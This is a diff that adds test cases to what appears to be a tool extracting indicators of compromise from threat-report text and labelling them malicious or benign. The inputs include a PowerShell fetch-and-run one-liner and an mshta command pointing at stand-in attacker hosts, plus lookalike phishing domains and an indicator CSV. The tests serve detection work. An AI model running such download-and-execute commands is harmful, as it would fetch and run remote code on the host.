@@ -288,6 +288,36 @@ describe('what works for defenders, or for everybody', () => {
       ['The malware dropped config.py and then ran install.pl from a folder.'],
       { malicious: ['config.py', 'install.pl'] },
     ],
+    [
+      'a command that runs what it fetches',
+      [
+        "The one-liner was `iex (iwr 'http://elmwick-a.xyz/a.ps1')`, and others paste mshta https://elmwick-b.site/c.html",
+      ],
+      { malicious: ['http://elmwick-a.xyz/a.ps1', 'https://elmwick-b.site/c.html'] },
+    ],
+    [
+      'what defenders are to look for',
+      ['Look for connections to 45.77.12.9 and alert on any traffic to elmwick-a.com in the logs.'],
+      { malicious: ['45.77.12.9', 'elmwick-a.com'] },
+    ],
+    [
+      'what was registered, and to which end',
+      [
+        'Attackers registered rnicrosoft-elm.com to imitate a maker, and elm-bank.co to look like elmbank.com.',
+      ],
+      { malicious: ['rnicrosoft-elm.com', 'elm-bank.co'], benign: ['elmbank.com'] },
+    ],
+    [
+      'rows that commas part',
+      [
+        heading('Network indicators'),
+        {
+          kind: 'code',
+          text: 'type,value,seen\ndomain,elmwick-a.net,2025-11-02\nurl,http://elmwick-a.net/b.bin,2025-11-02,payload',
+        },
+      ],
+      { malicious: ['elmwick-a.net', 'http://elmwick-a.net/b.bin'] },
+    ],
   ])('%s', (_, body, roles) => {
     expect(rolesOf(body)).toEqual(roles);
   });
